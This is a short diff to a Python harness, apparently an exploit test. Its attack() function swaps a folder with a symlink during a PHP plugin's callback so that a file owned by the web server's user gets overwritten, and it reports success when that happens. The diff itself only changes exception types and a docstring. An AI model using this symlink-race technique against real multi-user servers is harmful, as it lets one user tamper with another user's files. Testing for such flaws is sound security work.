@@ -36,7 +36,7 @@ os.symlink(precious, folder + "/callback.json")
 
 
 def attack(checkout: Checkout) -> None:
-    """Raises Succeeded if a file of the web server's user was overwritten."""
+    """Raises Succeeded if a file of the web server's user was overwritten, RuntimeError if it could not be tried."""
     checkout.two_users()
     plugin = checkout.plugin()
     precious = checkout.folder / "precious"
@@ -51,14 +51,14 @@ def attack(checkout: Checkout) -> None:
     assert victim.stdout is not None
     folder = victim.stdout.readline().strip()
     if not folder.startswith(str(shared)):
-        raise NotHere(f"PHP has not come so far: {victim.communicate()[1]}")
+        raise RuntimeError(f"PHP has not come so far: {victim.communicate()[1]}")
     if checkout.as_other(SWAP, folder, str(precious)).wait(20) != 0:
         raise NotHere("the folder could not be exchanged")
     said, errors = victim.communicate("go\n", timeout=40)
     if precious.read_text() != PRECIOUS:
         raise Succeeded(f"a file of the web server's user now holds {precious.read_text()[:60]!r}")
     if '"ok":true' not in said.replace(" ", ""):
-        raise NotHere(f"the callback was not answered: {said[-200:]} {errors[-300:]}")
+        raise RuntimeError(f"the callback was not answered: {said[-200:]} {errors[-300:]}")
 
 
 if __name__ == "__main__":
